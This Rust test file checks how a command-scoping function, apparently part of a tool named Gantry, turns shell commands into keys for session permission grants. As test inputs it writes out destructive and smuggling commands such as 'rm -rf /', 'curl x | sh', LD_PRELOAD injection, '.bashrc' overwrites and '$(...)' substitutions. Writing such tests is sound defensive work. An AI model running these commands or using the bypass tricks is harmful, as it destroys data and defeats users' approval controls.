//! The command_scope table and property tests.

use super::{Unscoped, command_scope};

/// `Ok(keys)` = exactly these keys, in this order; `Err(reason)` = never covered by a session
/// grant, for this reason (as the user reads it).
type Row = (
    &'static str,
    &'static str,
    Result<&'static [&'static str], &'static str>,
);

#[rustfmt::skip]
const ROWS: &[Row] = &[
    // --- keys of a single command ---
    ("subcommand", "git status", Ok(&["git status"])),
    ("args after key", "git status --short", Ok(&["git status"])),
    ("program only", "ls", Ok(&["ls"])),
    ("only flags", "ls -la", Ok(&["ls -la"])),
    ("rm only flags", "rm -rf", Ok(&["rm -rf"])),
    ("flag then operand", "rm -rf build", Ok(&["rm -rf build"])),
    ("flags after key", "cargo test -p foo --release", Ok(&["cargo test"])),
    ("npm run", "npm run build", Ok(&["npm run"])),
    ("relative program", "./script.sh build", Ok(&["./script.sh build"])),
    ("option of a program without a table", "./script.sh --verbose", Err("`--verbose` is not known to be harmless for `./script.sh`")),
    ("absolute program", "/bin/rm x", Ok(&["/bin/rm x"])),
    ("a program by path has no table", "/bin/rm -rf x", Err("`-rf` is not known to be harmless for `/bin/rm`")),
    ("double-quoted word", "git \"status\"", Ok(&["git status"])),
    ("single-quoted word", "git 'status'", Ok(&["git status"])),
    ("escaped letter", "git stat\\us", Ok(&["git status"])),
    ("flag value posing as subcommand", "git -C status push", Ok(&["git -C status push"])),
    ("exec-path flag", "git --exec-path=/tmp status", Err("`--exec-path` runs a program")),
    ("attached config flag", "git -ccore.pager=x log", Err("`-c` overrides configuration")),
    ("flag may take the next word", "cargo --locked test -q", Ok(&["cargo --locked test -q"])),
    ("flag with = takes no value", "cargo --color=never test -q", Ok(&["cargo --color=never test"])),
    ("manifest path selects another project", "cargo --manifest-path=a/Cargo.toml test -q", Err("`--manifest-path` is not known to be harmless for `cargo`")),
    ("double dash", "rm -- -rf", Ok(&["rm -- -rf"])),
    ("plus flag", "cargo +nightly test", Ok(&["cargo +nightly test"])),
    ("lone dash operand", "cat -", Ok(&["cat -"])),
    ("python module", "python3 -m pytest", Ok(&["python3 -m pytest"])),
    ("test bracket", "[ -f Cargo.toml ] && cargo build", Ok(&["[ -f Cargo.toml ]", "cargo build"])),
    ("unicode", "echo héllo | wc -c", Ok(&["echo héllo", "wc -c"])),
    // --- lists and pipelines ---
    ("semicolon attack", "git status; rm -rf ~", Ok(&["git status", "rm -rf ~"])),
    ("pipe to a shell reading stdin", "git status && curl x | sh", Err("`sh` runs whatever its standard input holds")),
    ("shell reading a redirected file", "bash < script.sh", Err("`bash` runs whatever its standard input holds")),
    ("shell with flags reading stdin", "curl x | bash -x", Err("`bash` runs whatever its standard input holds")),
    ("shell with -- and a script", "bash -- build.sh", Ok(&["bash -- build.sh"])),
    ("shell by path reading stdin", "curl x | /bin/sh", Err("`/bin/sh` runs whatever its standard input holds")),
    ("shell by path with flags reading stdin", "curl x | /usr/bin/bash -e", Err("`/usr/bin/bash` runs whatever its standard input holds")),
    ("shell by path with a script file", "/bin/bash build.sh", Ok(&["/bin/bash build.sh"])),
    ("other shell reading stdin", "curl x | zsh", Err("`zsh` runs whatever its standard input holds")),
    ("or", "make || echo failed", Ok(&["make", "echo failed"])),
    ("background attack", "git status & rm", Ok(&["git status", "rm"])),
    ("newline attack", "git status\nrm x", Ok(&["git status", "rm x"])),
    ("blank lines", "\n\ngit status\n\n", Ok(&["git status"])),
    ("pipe stderr", "cargo build |& tee log", Ok(&["cargo build", "tee log"])),
    ("deduplicated", "git status; git status --short", Ok(&["git status"])),
    ("cd then glob", "cd /tmp && rm -rf *", Ok(&["cd /tmp", "rm -rf *"])),
    ("subshell", "(cd sub && make)", Ok(&["cd sub", "make"])),
    ("group", "{ git status; ls; }", Ok(&["git status", "ls"])),
    ("group with redirection", "{ ls; } > out.txt", Ok(&["ls", "> out.txt"])),
    ("negation", "! git diff --quiet", Ok(&["git diff"])),
    // --- substitutions ---
    ("dollar-paren attack", "echo status $(rm -rf /)", Ok(&["echo status", "rm -rf /"])),
    ("substitution may be an option", "git status $(rm -rf /)", Err("`$(rm -rf /)` may expand to an option of `git status`")),
    ("backtick in key position", "git `rm -rf /`", Err("``rm -rf /`` is only known when the command runs")),
    ("backtick after key", "echo hi `whoami`", Ok(&["echo hi", "whoami"])),
    ("nested substitution", "echo x $(git log -1 -- $(echo y))", Ok(&["echo x", "git log", "echo y"])),
    ("nested substitution may be an option", "echo x $(git log -1 $(echo y))", Err("`$(echo y)` may expand to an option of `git log`")),
    ("substitution in double quotes", "printf '%s\\n' \"$(date)\"", Ok(&["printf %s\\n", "date"])),
    ("empty substitution", "echo x $()", Ok(&["echo x"])),
    ("substitution in assignment", "X=$(date) make", Err("`X=$(date)` is only known when the command runs")),
    ("arithmetic expansion", "echo $((1+2))", Err("Gantry does not follow arithmetic (`$((…))`, `((…))`)")),
    ("arithmetic command", "((x++))", Err("Gantry does not follow arithmetic (`$((…))`, `((…))`)")),
    ("escaped backtick inside backticks", "echo `echo \\`rm x\\``", Err("``rm x`` is only known when the command runs")),
    // --- assignments and wrappers ---
    ("assignment attack", "FOO=1 rm -rf /", Ok(&["FOO=1 rm -rf /"])),
    ("assignment only", "FOO=1", Ok(&["FOO=1"])),
    ("quoted assignment value", "FOO=\"a b\" make", Ok(&["FOO='a b' make"])),
    ("quoted name is a program", "\"FOO=1\" cmd", Err("Gantry could not parse this command")),
    ("env attack", "env rm -rf /", Ok(&["rm -rf /"])),
    ("env with options", "env -i -u HOME FOO=1 make test", Ok(&["env -i -u HOME FOO=1 make test"])),
    ("env split string", "env -S 'rm -rf /'", Err("`-S` is not known to be harmless for `env`")),
    ("env alone", "env", Ok(&["env"])),
    ("sudo attack", "sudo rm", Ok(&["sudo", "sudo rm"])),
    ("sudo with user", "sudo -u bob rm -rf x", Ok(&["sudo", "sudo -u bob rm -rf x"])),
    ("sudo shell", "sudo -s", Err("`-s` is not known to be harmless for `sudo`")),
    ("timeout attack", "timeout 5 rm -rf /", Ok(&["rm -rf /"])),
    ("timeout options", "timeout -s KILL --preserve-status 10s cargo test", Ok(&["cargo test"])),
    ("timeout dynamic duration", "timeout $T git status", Err("`$T` is only known when the command runs")),
    ("nice", "nice -n 10 cargo build", Ok(&["cargo build"])),
    ("nice obsolete form", "nice -5 make", Ok(&["make"])),
    ("nohup in background", "nohup python -m http.server &", Ok(&["python -m http.server"])),
    ("time", "time -p cargo build", Ok(&["cargo build"])),
    ("command", "command git status", Ok(&["git status"])),
    ("command -v", "command -v git", Ok(&["command -v git"])),
    ("command -p", "command -p git status", Err("`-p` is not known to be harmless for `command`")),
    ("exec", "exec git status", Ok(&["git status"])),
    ("exec with option", "exec -a name git", Err("`-a` is not known to be harmless for `exec`")),
    ("stacked wrappers", "sudo env FOO=1 timeout 5 nice rm -rf x", Ok(&["sudo", "sudo FOO=1 rm -rf x"])),
    ("xargs", "find . -name '*.o' | xargs rm -f", Ok(&["find .", "xargs rm -f"])),
    ("xargs replace", "ls | xargs -I {} rm {} backup/", Ok(&["ls", "xargs -I {} rm {}"])),
    ("xargs replace may be an option", "ls | xargs -I {} cp {} backup/", Err("`{}` may expand to an option of `cp`")),
    ("xargs replace differs from plain xargs", "xargs rm {}", Ok(&["xargs rm {}"])),
    ("xargs appends options", "xargs cp {}", Err("`xargs` may pass options read from its input to `cp`")),
    ("xargs attached replace", "xargs -I% echo % old/", Ok(&["xargs -I % echo %"])),
    ("xargs -i default replace", "xargs -i rm {} b/", Ok(&["xargs -I {} rm {}"])),
    ("xargs --replace", "xargs --replace=@ rm @ b/", Ok(&["xargs -I @ rm @"])),
    ("xargs replace in program attack", "xargs -I echo echo hi", Err("`echo` is filled in by `xargs` from its input")),
    ("xargs replace string as program", "xargs -I {} {} -rf /", Err("`{}` is filled in by `xargs` from its input")),
    ("xargs replace inside sh -c attack", "xargs -I {} sh -c 'echo {}'", Err("`'echo {}'` is filled in by `xargs` from its input")),
    ("xargs replace in wrapper option", "xargs -I U sudo -u U rm x", Err("`U` is filled in by `xargs` from its input")),
    ("xargs replace in test operand", "xargs -I V [ -v V ]", Err("`[` may evaluate code in an operand holding `$` or a backtick")),
    ("xargs empty replace string", "xargs -I '' rm x", Err("`rm` is filled in by `xargs` from its input")),
    ("xargs replace not in key", "xargs -I {} echo hi {}", Ok(&["xargs -I {} echo hi"])),
    ("xargs replace may be a git option", "xargs -I {} git status {}", Err("`{}` may expand to an option of `git status`")),
    ("xargs null", "find . -print0 | xargs -0 rm -f", Ok(&["find .", "xargs rm -f"])),
    ("xargs -n value", "xargs -n 1 rm", Ok(&["xargs rm"])),
    ("xargs -n attached", "xargs -n1 -P4 rm -f", Ok(&["xargs rm -f"])),
    ("xargs appends cargo options", "xargs -n1 -P4 cargo test", Err("`xargs` may pass options read from its input to `cargo test`")),
    ("xargs -P value is not the program", "xargs -P 4 rm -rf x", Ok(&["xargs rm -rf x"])),
    ("xargs clustered values", "xargs -0rn 2 grep x", Ok(&["xargs grep x"])),
    ("xargs appends git options", "xargs -0rn 2 git add", Err("`xargs` may pass options read from its input to `git add`")),
    ("xargs long value", "xargs --max-procs 2 --delimiter=, rm", Ok(&["xargs rm"])),
    ("xargs -L and -s", "xargs -L 3 -s 100 echo", Ok(&["xargs echo"])),
    ("xargs arg file", "xargs -a list.txt rm", Ok(&["xargs rm"])),
    ("xargs wraps sudo", "xargs sudo rm", Ok(&["sudo", "xargs sudo rm"])),
    ("xargs wraps timeout", "xargs timeout 5 rm -rf x", Ok(&["xargs rm -rf x"])),
    ("xargs sh -c parsed", "xargs sh -c 'ls; rm -rf ~'", Ok(&["xargs ls", "xargs rm -rf ~"])),
    ("xargs sh -c without script", "xargs sh -c", Err("`-c` of `sh` needs a value")),
    ("xargs missing option value", "xargs -n", Err("`-n` of `xargs` needs a value")),
    ("xargs dynamic option value", "xargs -n $N rm", Err("`$N` is only known when the command runs")),
    ("xargs alone", "ls | xargs", Ok(&["ls", "xargs"])),
    ("xargs gives env its command", "ls | xargs env", Err("`xargs` may pass options read from its input to `env`")),
    ("xargs gives sudo its command", "xargs sudo", Err("`xargs` may pass options read from its input to `sudo`")),
    ("xargs gives timeout its command", "xargs timeout 5", Err("`xargs` may pass options read from its input to `timeout`")),
    ("xargs gives busybox its applet", "xargs busybox", Err("`xargs` may pass options read from its input to `busybox`")),
    ("xargs gives sh its script", "xargs sh", Err("`sh` runs whatever its standard input holds")),
    ("xargs gives a script its options", "xargs sh build.sh", Err("`xargs` may pass options read from its input to `build.sh`")),
    ("xargs unknown option", "ls | xargs --frobnicate rm", Err("`--frobnicate` is not known to be harmless for `xargs`")),
    ("env by path is a program", "/usr/bin/env rm x", Ok(&["/usr/bin/env rm"])),
    ("env by path has no table", "/usr/bin/env rm -rf /", Err("`-rf` is not known to be harmless for `/usr/bin/env`")),
    ("flock", "flock /tmp/build.lock cargo test -q", Ok(&["flock /tmp/build.lock", "cargo test"])),
    ("flock options", "flock -x -w 10 .lock rm -rf target", Ok(&["flock .lock", "rm -rf target"])),
    ("flock attack", "flock l rm -rf /", Ok(&["flock l", "rm -rf /"])),
    ("flock -c runs $SHELL", "flock .lock -c 'make && rm -rf /'", Err("`flock -c` runs a command string in a shell Gantry does not parse")),
    ("flock --command runs $SHELL", "flock .lock --command 'git status; and rm -rf ~'", Err("`flock -c` runs a command string in a shell Gantry does not parse")),
    ("flock -c dynamic", "flock .lock -c \"$CMD\"", Err("`flock -c` runs a command string in a shell Gantry does not parse")),
    ("flock -c extra word", "flock .lock -c ls rm", Err("`flock -c` runs a command string in a shell Gantry does not parse")),
    ("flock -c before the file", "flock -c 'rm -rf /' .lock", Err("`-c` is not known to be harmless for `flock`")),
    ("flock descriptor", "flock -n 9", Ok(&["flock -n 9"])),
    ("flock dynamic file", "flock $L make", Err("`$L` is only known when the command runs")),
    ("flock unknown option", "flock --frob l make", Err("`--frob` is not known to be harmless for `flock`")),
    ("sudo flock", "sudo flock l rm x", Ok(&["sudo", "sudo flock l", "sudo rm x"])),
    ("taskset", "taskset 0x3 cargo test", Ok(&["cargo test"])),
    ("taskset cpu list", "taskset -c 0,1 rm -rf /", Ok(&["rm -rf /"])),
    ("taskset -c is not a value-taking flag", "taskset -c 0 git push", Ok(&["git push"])),
    ("taskset all tasks", "taskset -a -c 1 make", Ok(&["make"])),
    ("taskset pid", "taskset -p 0x1 1234", Ok(&["taskset -p 0x1 1234"])),
    ("taskset missing command", "taskset 0x3", Ok(&["taskset 0x3"])),
    ("chroot", "chroot /srv/jail ls -la", Ok(&["chroot", "chroot /srv/jail ls -la"])),
    ("chroot options", "chroot --userspec=1000:1000 /srv/jail cargo test", Ok(&["chroot", "chroot --userspec=1000:1000 /srv/jail cargo test"])),
    ("chroot shell", "chroot /srv/jail", Ok(&["chroot /srv/jail"])),
    ("chroot sh -c", "chroot /j sh -c 'ls; rm x'", Ok(&["chroot", "chroot /j ls", "chroot /j rm x"])),
    ("stdbuf", "stdbuf -oL cargo test", Ok(&["cargo test"])),
    ("stdbuf separate value", "stdbuf -o L -e 0 rm -rf x", Ok(&["rm -rf x"])),
    ("stdbuf long", "stdbuf --output=L git push", Ok(&["git push"])),
    ("ionice", "ionice -c 3 cargo build", Ok(&["cargo build"])),
    ("ionice attached", "ionice -c2 -n7 -t rm -rf x", Ok(&["rm -rf x"])),
    ("ionice pid", "ionice -c 3 -p 1234", Ok(&["ionice -c 3 -p 1234"])),
    ("nohup with option", "nohup --frob rm", Err("`--frob` is not known to be harmless for `nohup`")),
    ("time wraps sh -c", "time sh -c 'rm -rf /'", Ok(&["rm -rf /"])),
    ("nice wraps bash -c", "nice -n 5 bash -c 'git push'", Ok(&["git push"])),
    ("timeout wraps sh -c", "timeout 5 sh -c 'ls; rm x'", Ok(&["ls", "rm x"])),
    ("env wraps sh -c", "env FOO=1 sh -c 'rm x'", Ok(&["FOO=1 rm x"])),
    ("command wraps sh -c", "command sh -c 'rm x'", Ok(&["rm x"])),
    ("exec wraps bash -c", "exec bash -c 'rm x'", Ok(&["rm x"])),
    ("nohup wraps sh -c", "nohup sh -c 'rm x' &", Ok(&["rm x"])),
    ("busybox applet", "busybox rm -rf x", Ok(&["busybox rm -rf x"])),
    ("busybox sh -c", "busybox sh -c 'ls; rm -rf ~'", Ok(&["busybox ls", "busybox rm -rf ~"])),
    ("busybox alone", "busybox --list", Ok(&["busybox --list"])),
    ("ash -c parsed", "ash -c 'rm x'", Ok(&["rm x"])),
    ("zsh -c", "zsh -c 'ls; rm -rf ~'", Err("`zsh -c` runs a command string in a shell Gantry does not parse")),
    ("zsh clustered -c", "zsh -fc 'rm -rf ~'", Err("`zsh -c` runs a command string in a shell Gantry does not parse")),
    ("fish -c", "fish -c 'rm -rf ~'", Err("`fish -c` runs a command string in a shell Gantry does not parse")),
    ("fish --command", "fish --command='rm -rf ~'", Err("`fish -c` runs a command string in a shell Gantry does not parse")),
    ("zsh script", "zsh build.zsh", Ok(&["zsh build.zsh"])),
    ("sh by path is a program without a table", "/bin/sh -c 'ls; rm -rf ~'", Err("`-c` is not known to be harmless for `/bin/sh`")),
    ("sh -c sh reads stdin", "sh -c sh", Err("`sh` runs whatever its standard input holds")),
    ("sh -c keys its script", "sh -c 'git status'", Ok(&["git status"])),
    ("su", "su root -c 'rm -rf /'", Err("`su` runs another command in a way Gantry does not follow")),
    ("runuser", "runuser -u bob -- rm x", Err("`runuser` runs another command in a way Gantry does not follow")),
    ("doas", "doas cargo test", Err("`doas` runs another command in a way Gantry does not follow")),
    ("watch joins its arguments", "watch ls '; rm -rf ~'", Err("`watch` runs another command in a way Gantry does not follow")),
    ("setsid", "setsid cargo test", Err("`setsid` runs another command in a way Gantry does not follow")),
    ("script -c", "script -qc 'rm -rf ~' /dev/null", Err("`script` runs another command in a way Gantry does not follow")),
    ("parallel", "parallel rm ::: a b", Err("`parallel` runs another command in a way Gantry does not follow")),
    ("strace", "strace -f cargo test", Err("`strace` runs another command in a way Gantry does not follow")),
    ("unshare", "unshare -r rm x", Err("`unshare` runs another command in a way Gantry does not follow")),
    ("env wraps an opaque runner", "env su -c 'rm x'", Err("`su` runs another command in a way Gantry does not follow")),
    ("local script named like a wrapper", "./nohup rm x", Ok(&["./nohup rm"])),
    // --- sh -c ---
    ("bash -c parsed", "bash -c 'git status && rm -rf /'", Ok(&["git status", "rm -rf /"])),
    ("sh -ec parsed", "sh -ec \"make; make install\"", Ok(&["make", "make install"])),
    ("sudo bash -c with redirection", "sudo bash -c 'echo x > /etc/f'", Ok(&["sudo", "sudo echo x", "sudo > /etc/f"])),
    ("bash -o", "bash -o pipefail -c 'ls'", Err("`-o` is not known to be harmless for `bash`")),
    ("bash -lc", "bash -lc 'ls'", Err("`-lc` is not known to be harmless for `bash`")),
    ("bash -c dynamic", "bash -c \"$CMD\"", Err("`\"$CMD\"` is only known when the command runs")),
    ("bash -c empty", "bash -c ''", Err("the command runs nothing")),
    ("bash script file", "bash build.sh", Ok(&["bash build.sh"])),
    ("xargs sh -c dynamic", "xargs sh -c 'rm \"$1\"' _", Err("`\"$1\"` is only known when the command runs")),
    // --- comments, quotes, escapes ---
    ("comment attack", "git status #; rm", Ok(&["git status"])),
    ("hash inside word", "echo a#b; ls", Ok(&["echo a#b", "ls"])),
    ("comment then next line", "ls # note\nrm x", Ok(&["ls", "rm x"])),
    ("quoted semicolon", "echo \"a;b\"", Ok(&["echo a;b"])),
    ("quoted pipe", "grep 'a|b' file", Ok(&["grep a|b"])),
    ("quoted ampersands", "echo 'a && b'", Ok(&["echo 'a && b'"])),
    ("quoted newline", "echo 'a\nb'", Ok(&["echo 'a\nb'"])),
    ("escaped semicolon", "echo a\\;b", Ok(&["echo a;b"])),
    ("line continuation", "git \\\nstatus", Ok(&["git status"])),
    ("continuation inside word", "gi\\\nt status", Ok(&["git status"])),
    ("quoted glob differs from glob", "rm '*'", Ok(&["rm '*'"])),
    ("glob", "rm *", Ok(&["rm *"])),
    ("quoted blank", "echo \"a b\"", Ok(&["echo 'a b'"])),
    ("empty argument", "git \"\"", Ok(&["git ''"])),
    ("single quote in double quotes", "echo \"it's\"", Ok(&["echo it's"])),
    ("comment only", "# just a comment", Err("the command runs nothing")),
    ("empty", "", Err("the command runs nothing")),
    ("blanks", "  \t ", Err("the command runs nothing")),
    // --- redirections ---
    ("redirect to file", "cargo test > out.txt", Ok(&["cargo test", "> out.txt"])),
    ("stderr to stdout", "cargo test 2>&1 | tee log", Ok(&["cargo test", "tee log"])),
    ("dev null", "make >/dev/null 2>&1", Ok(&["make"])),
    ("append", "echo hi >> notes.md", Ok(&["echo hi", ">> notes.md"])),
    ("fd write normalised", "cargo build 2> err.txt", Ok(&["cargo build", "> err.txt"])),
    ("clobber normalised", "ls >| out", Ok(&["ls", "> out"])),
    ("input", "sort < data.csv", Ok(&["sort", "< data.csv"])),
    ("redirection first", "> out.txt echo hi", Ok(&["> out.txt", "echo hi"])),
    ("redirection is not an argument", "git > out status", Ok(&["git status", "> out"])),
    ("ampersand-greater", "cargo build &> log.txt", Ok(&["cargo build", "> log.txt"])),
    ("ampersand-greater hides a command in dash", "git status &>/dev/null rm x", Ok(&["git status", "rm x"])),
    ("ampersand-greater: bash passes the rest to the command", "git status &>/dev/null rm -rf x", Err("`-r` is not known to be harmless for `git status`")),
    ("greater-ampersand file", "make >& build.log", Ok(&["make", "> build.log"])),
    ("here-string", "grep x <<< \"$VAR\"", Ok(&["grep x"])),
    ("here-doc", "cat <<EOF\nhi\nEOF", Err("Gantry does not follow here-documents (`<<`)")),
    ("process substitution", "diff <(ls a) <(ls b)", Err("Gantry does not follow process substitution (`<(…)`, `>(…)`)")),
    ("output process substitution", "tee >(rm x)", Err("Gantry does not follow process substitution (`<(…)`, `>(…)`)")),
    ("close descriptor", "make 2>&-", Ok(&["make"])),
    ("dynamic target", "echo x > $OUT", Err("`$OUT` is only known when the command runs")),
    ("tilde target", "echo x > ~/.bashrc", Ok(&["echo x", "> ~/.bashrc"])),
    ("missing target", "echo x >", Err("Gantry could not parse this command")),
    // --- not understood ---
    ("unbalanced single quote", "echo 'abc", Err("Gantry could not parse this command")),
    ("unbalanced double quote", "echo \"abc", Err("Gantry could not parse this command")),
    ("unbalanced paren", "(ls", Err("Gantry could not parse this command")),
    ("stray close paren", "ls)", Err("Gantry could not parse this command")),
    ("unclosed substitution", "echo $(ls", Err("Gantry could not parse this command")),
    ("unclosed backtick", "echo `ls", Err("Gantry could not parse this command")),
    ("if", "if true; then rm x; fi", Err("Gantry does not follow the shell's `if`")),
    ("for", "for f in *; do rm $f; done", Err("Gantry does not follow the shell's `for`")),
    ("while", "while true; do ls; done", Err("Gantry does not follow the shell's `while`")),
    ("case", "case x in a) ls;; esac", Err("Gantry does not follow the shell's `case`")),
    ("function definition", "f() { rm -rf /; }; f", Err("Gantry could not parse this command")),
    ("function keyword", "function f { ls; }", Err("Gantry does not follow the shell's `function`")),
    ("eval", "eval \"rm -rf /\"", Err("`eval` evaluates text as code or changes the shell's state")),
    ("source", "source ./env.sh", Err("`source` evaluates text as code or changes the shell's state")),
    ("dot", ". ./env.sh", Err("`.` evaluates text as code or changes the shell's state")),
    ("variable program", "$CMD args", Err("`$CMD` is only known when the command runs")),
    ("braced variable program", "${CMD} args", Err("`${CMD}` is only known when the command runs")),
    ("variable subcommand", "git $SUB", Err("`$SUB` is only known when the command runs")),
    ("variable after key", "echo status $X", Ok(&["echo status"])),
    ("variable may be an option", "git status $X", Err("`$X` may expand to an option of `git status`")),
    ("variable after double dash", "git log -- $X", Ok(&["git log"])),
    ("ansi-c quoting", "echo $'a\\nb'", Err("Gantry does not follow `$'…'` and `$\"…\"` quoting")),
    ("default with substitution", "echo ${X:-$(rm -rf /)}", Err("Gantry does not follow `${…}` beyond a plain `${NAME}`")),
    ("trailing pipe", "ls |", Err("Gantry could not parse this command")),
    ("trailing and", "ls &&", Err("Gantry could not parse this command")),
    ("leading semicolon", "; ls", Err("Gantry could not parse this command")),
    ("doubled and", "ls && && rm", Err("Gantry could not parse this command")),
    ("double semicolon", "ls;; rm", Err("Gantry could not parse this command")),
    ("test -v subscript injection", "[ -f x -a -v 'a[$(id)]' ]", Err("`[` may evaluate code in an operand holding `$` or a backtick")),
    ("let", "let x=1", Err("`let` evaluates text as code or changes the shell's state")),
    ("declare", "declare -a x", Err("`declare` evaluates text as code or changes the shell's state")),
    ("glob in program", "/bin/r? -rf /", Err("`/bin/r?` is only known when the command runs")),
    ("brace expansion program", "{rm,-rf,/}", Err("`{rm,-rf,/}` is only known when the command runs")),
    ("tilde program", "~/bin/tool", Err("`~/bin/tool` is only known when the command runs")),
    ("double brackets", "[[ -f x ]]", Err("Gantry does not follow the shell's `[[`")),
    ("array assignment", "a=(1 2); ls", Err("Gantry could not parse this command")),
    ("group without separator", "{ ls }", Err("Gantry could not parse this command")),
    ("empty subshell", "()", Err("Gantry could not parse this command")),
    ("trailing backslash", "ls \\", Err("Gantry could not parse this command")),
    ("quoted reserved word", "\"if\" x", Err("Gantry does not follow the shell's `if`")),
    ("word after subshell", "(ls) rm", Err("Gantry could not parse this command")),
    ("NUL byte", "git status\0; rm -rf /", Err("the command contains a NUL byte")),
];

#[test]
fn scope_table() {
    assert!(ROWS.len() >= 60, "only {} rows", ROWS.len());
    let mut failures = Vec::new();
    for &(label, command, expected) in ROWS {
        let got = command_scope(command).map_err(|reason| reason.to_string());
        let expected: Result<Vec<String>, String> = expected
            .map(|keys| keys.iter().map(|k| (*k).to_owned()).collect())
            .map_err(|reason| (*reason).to_owned());
        if got != expected {
            failures.push(format!(
                "{label}: {command:?}\n    expected {expected:?}\n    got      {got:?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        ROWS.len(),
        failures.join("\n")
    );
}

#[test]
fn deep_nesting_gives_up() {
    let depth = 100;
    let command = format!("{}ls{}", "echo $(".repeat(depth), ")".repeat(depth));
    assert_eq!(command_scope(&command), Err(Unscoped::TooDeep));
    let shallow = format!("{}ls{}", "echo x $(".repeat(5), ")".repeat(5));
    assert_eq!(
        command_scope(&shallow),
        Ok(vec!["echo x".to_owned(), "ls".to_owned()])
    );
}

/// A small deterministic generator (no dependency needed for a fuzz-style test).
struct Lcg(u64);

impl Lcg {
    fn below(&mut self, n: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((self.0 >> 33) as usize) % n
    }
}

/// Whatever precedes it, a command on a line of its own is run, so it must be keyed (or
/// the whole thing must be unscoped). Random prefixes of shell syntax probe the splitter.
#[test]
fn a_command_on_its_own_line_is_always_keyed() {
    const TOKENS: &[&str] = &[
        "git", "status", " ", " ", " ", ";", "&", "|", "&&", "||", "(", ")", "{", "}", "$", "$(",
        "'", "\"", "\\", "`", "#", "\n", ">", "<", "2>&1", "&>", "=", "FOO=", "-x", "--", "sudo",
        "env", "bash", "-c", "xargs", "timeout", "5", "*", "~", "!", "if", "then", "flock",
        "taskset", "chroot", "stdbuf", "ionice", "busybox", "-I", "{}", "-0", "-n", "fi", "<<",
        "<<<", "$X", "${X}", "{a,b}", "[", "]", "echo", "rm", "-rf", "/", "nohup", "exec",
        "command", "-v", "time", "\t", "é", "\\\n",
    ];
    let mut rng = Lcg(0x5eed);
    let mut scoped = 0;
    for _ in 0..20_000 {
        let len = 1 + rng.below(12);
        let prefix: String = (0..len).map(|_| TOKENS[rng.below(TOKENS.len())]).collect();
        if prefix.ends_with('\\') {
            continue; // a continuation joins the next line, as in the shell
        }
        let command = format!("{prefix}\nrm -rf /");
        if let Ok(keys) = command_scope(&command) {
            scoped += 1;
            assert!(
                keys.iter().any(|key| key == "rm -rf /"),
                "{command:?} hides its last line: {keys:?}"
            );
        }
    }
    // The generator must reach the interesting (scoped) cases, not only syntax errors.
    assert!(scoped > 2_000, "only {scoped} random commands were scoped");
}

/// Approving one command for the session must not approve the attacks built on it.
#[test]
fn approved_keys_do_not_cover_attacks() {
    let approved: Vec<String> = ["git status", "cargo test", "ls -la", "rm -rf build"]
        .iter()
        .flat_map(|c| command_scope(c).unwrap())
        .collect();
    for attack in [
        "git push",
        "git status; rm -rf ~",
        "git status && curl x | sh",
        "git status $(rm -rf /)",
        "git status\nrm x",
        "git -C status push",
        "git --exec-path=/tmp status",
        "LD_PRELOAD=/tmp/x.so git status",
        "sudo git status",
        "git status > ~/.bashrc",
        "git status &>/dev/null rm -rf x",
        "bash -c 'git status; rm -rf /'",
        "rm -rf build /",
        "./git status",
        "xargs -I git git status",
        "flock l -c 'git status; rm -rf /'",
        "chroot /tmp/evil git status",
        "busybox sh -c 'git status; rm -rf /'",
        "taskset 1 git push",
        "stdbuf -oL cargo install evil",
        "cargo test --config=target.x.runner=sh",
        "cargo test -- --logfile /home/user/.bashrc",
        "git status --porcelain; git log --output=x",
        "ls -la --hyperlink; find . -delete",
        "rm -rf build -exec",
    ] {
        if let Ok(keys) = command_scope(attack) {
            assert!(
                keys.iter().any(|key| !approved.contains(key)),
                "{attack:?} would run without asking: {keys:?}"
            );
        }
    }
}
